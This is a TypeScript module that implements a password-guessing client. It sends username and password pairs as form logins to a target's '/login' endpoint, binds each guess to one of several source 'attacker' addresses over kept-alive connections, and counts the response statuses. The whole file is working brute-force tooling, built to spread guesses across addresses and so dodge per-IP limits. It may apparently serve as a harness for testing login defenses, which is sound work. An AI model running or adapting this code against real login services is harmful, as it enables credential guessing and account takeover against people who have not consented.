/** Log-ins by form over connections that are kept, from an address of one's own, counted by answer. */
import { Agent, request } from "node:http";
import type { Victim } from "./attack.ts";

/** One guess. */
export interface Guess {
  readonly username: string;
  readonly password: string;
  /** The attacker's address. */
  readonly from: string;
}

/** Somebody who guesses; disposing it closes the connections. */
export class Guesser implements Disposable {
  readonly #agents = new Map<string, Agent>();
  /** How often each status came back; "lost" for none. */
  readonly counts: Record<string, number> = {};

  constructor(private readonly victim: Victim, private readonly connections: number) {}

  /** Guesses once; resolves with the status of the answer, 0 for none. */
  guess({ username, password, from }: Guess, signal: AbortSignal): Promise<number> {
    const { hostname, port, origin } = this.victim;
    const { promise, resolve } = Promise.withResolvers<number>();
    const body = new URLSearchParams({ username, password }).toString();
    // A request that still waits for its connection is not told of the end.
    const end = () => resolve(0);
    signal.addEventListener("abort", end, { once: true });
    promise.then(() => signal.removeEventListener("abort", end));
    if (signal.aborted) end();
    const sent = request({
      ...{ host: hostname, port, path: "/login", method: "POST", agent: this.#agent(from), signal },
      localAddress: from,
      headers: {
        origin,
        "content-type": "application/x-www-form-urlencoded",
        "content-length": body.length,
      },
    }, (answer) => {
      answer.resume();
      answer.on("close", () => this.#settle(answer.statusCode ?? 0, signal, resolve));
    });
    sent.on("error", () => this.#settle(0, signal, resolve));
    sent.end(body);
    return promise;
  }

  [Symbol.dispose](): void {
    for (const agent of this.#agents.values()) agent.destroy();
  }

  #settle(status: number, signal: AbortSignal, resolve: (status: number) => void): void {
    if (!signal.aborted) {
      const name = status === 0 ? "lost" : `answered ${status}`;
      this.counts[name] = (this.counts[name] ?? 0) + 1;
    }
    resolve(status);
  }

  #agent(from: string): Agent {
    let agent = this.#agents.get(from);
    if (!agent) {
      agent = new Agent({ keepAlive: true, maxSockets: this.connections });
      this.#agents.set(from, agent);
    }
    return agent;
  }
}
